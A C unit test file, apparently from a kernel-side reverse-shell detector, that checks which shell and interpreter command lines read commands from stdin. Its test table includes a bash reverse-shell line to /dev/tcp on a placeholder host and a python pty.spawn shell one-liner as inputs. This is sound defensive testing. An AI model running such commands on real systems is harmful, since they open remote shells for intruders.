@@ -1,0 +1,125 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Unit tests for the reverse-shell finder's argv rule (revshell.c): does a
+ * shell or interpreter run with this argv read its commands from stdin?
+ * Table-driven: one row per command line, every failing row reported.
+ */
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <setjmp.h>
+#include <cmocka.h>
+
+#include <stdbool.h>
+#include <stdio.h>
+#include <string.h>
+
+#include "revshell.h"
+
+#define ARRAY_LEN(a)	(sizeof(a) / sizeof((a)[0]))
+
+struct row {
+	int kind;
+	const char *argv;	/* words separated by '|' */
+	bool stdin_commands;
+};
+
+static const struct row rows[] = {
+	/* shells: no operand, -i, -s: commands from stdin */
+	{ IRC_RSH_SHELL, "bash", true },
+	{ IRC_RSH_SHELL, "/bin/sh|-i", true },
+	{ IRC_RSH_SHELL, "bash|-li", true },
+	{ IRC_RSH_SHELL, "bash|--login", true },
+	{ IRC_RSH_SHELL, "-bash", true },			/* a login shell's argv[0] */
+	{ IRC_RSH_SHELL, "bash|--norc|--noprofile", true },
+	{ IRC_RSH_SHELL, "bash|--rcfile|/x/rc", true },		/* the option's value is no script */
+	{ IRC_RSH_SHELL, "bash|-o|vi", true },
+	{ IRC_RSH_SHELL, "bash|-s|arg1|arg2", true },
+	{ IRC_RSH_SHELL, "bash|-e", true },			/* errexit, not a program */
+	{ IRC_RSH_SHELL, "sh|-", true },
+	{ IRC_RSH_SHELL, "bash|--", true },			/* "--" and nothing after: stdin */
+	/* shells: a -c string or a script file */
+	{ IRC_RSH_SHELL, "bash|-c|bash -i >& /dev/tcp/h/1 0>&1", false },
+	{ IRC_RSH_SHELL, "bash|-ic|id", false },		/* -i with -c runs the string */
+	{ IRC_RSH_SHELL, "sh|-ec|id", false },
+	{ IRC_RSH_SHELL, "bash|script.sh", false },
+	{ IRC_RSH_SHELL, "bash|-e|/tmp/job.sh", false },	/* GitHub Actions, Jenkins */
+	{ IRC_RSH_SHELL, "bash|--noprofile|--norc|-eo|pipefail|/tmp/s.sh", false },
+	{ IRC_RSH_SHELL, "bash|--|script.sh", false },
+	{ IRC_RSH_SHELL, "bash|-i|script.sh", true },		/* forced interactive */
+	{ IRC_RSH_SHELL, "bash|-s|script-arg", true },
+	/* interpreters */
+	{ IRC_RSH_INTERP, "python3", true },
+	{ IRC_RSH_INTERP, "python3|-i", true },
+	{ IRC_RSH_INTERP, "python3|-", true },
+	{ IRC_RSH_INTERP, "python3|-u", true },
+	{ IRC_RSH_INTERP, "python3|-c|import pty; pty.spawn('/bin/bash')", false },
+	{ IRC_RSH_INTERP, "python3|-m|http.server", false },
+	{ IRC_RSH_INTERP, "python3|-W|ignore|app.py", false },
+	{ IRC_RSH_INTERP, "python3|-W|ignore", true },		/* the option's value is no script */
+	{ IRC_RSH_INTERP, "python3|app.py", false },
+	{ IRC_RSH_INTERP, "perl|-e|print 1", false },
+	{ IRC_RSH_INTERP, "perl|-we|print 1", false },
+	{ IRC_RSH_INTERP, "perl", true },
+	{ IRC_RSH_INTERP, "ruby|-e|puts 1", false },
+	{ IRC_RSH_INTERP, "php|-r|echo 1;", false },
+	{ IRC_RSH_INTERP, "node|-e|1", false },
+	{ IRC_RSH_INTERP, "node|-p|1", false },
+	{ IRC_RSH_INTERP, "node", true },
+	{ IRC_RSH_INTERP, "lua|-i", true },
+};
+
+/* "a|b|c" -> "a\0b\0c\0", as the kernel gives argv. */
+static size_t to_args(const char *s, char *buf, size_t len)
+{
+	size_t n = strlen(s) + 1, i;
+
+	assert_true(n <= len);
+	memcpy(buf, s, n);
+	for (i = 0; i < n; i++)
+		if (buf[i] == '|')
+			buf[i] = '\0';
+	return n;
+}
+
+static void test_stdin_commands_table(void **state)
+{
+	char buf[512];
+	size_t i, n;
+	int bad = 0;
+
+	(void)state;
+	for (i = 0; i < ARRAY_LEN(rows); i++) {
+		bool want = rows[i].stdin_commands, got;
+
+		n = to_args(rows[i].argv, buf, sizeof(buf));
+		got = irc_rsh_stdin_commands(rows[i].kind, buf, n);
+		if (got != want) {
+			fprintf(stderr, "row %zu (%s): got %d, want %d\n", i, rows[i].argv, got, want);
+			bad++;
+		}
+	}
+	assert_int_equal(bad, 0);
+}
+
+/* argv as the kernel may cut it (IRC_ARGS_LEN): no read past the end. */
+static void test_truncated_args(void **state)
+{
+	char buf[8] = { 'b', 'a', 's', 'h', 0, '-', 'c', 'x' };
+
+	(void)state;
+	/* "-cx" without its NUL: still a -c, read within the 8 bytes. */
+	assert_false(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, sizeof(buf)));
+	assert_true(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, 5));
+	assert_true(irc_rsh_stdin_commands(IRC_RSH_SHELL, buf, 0));
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_stdin_commands_table),
+		cmocka_unit_test(test_truncated_args),
+	};
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
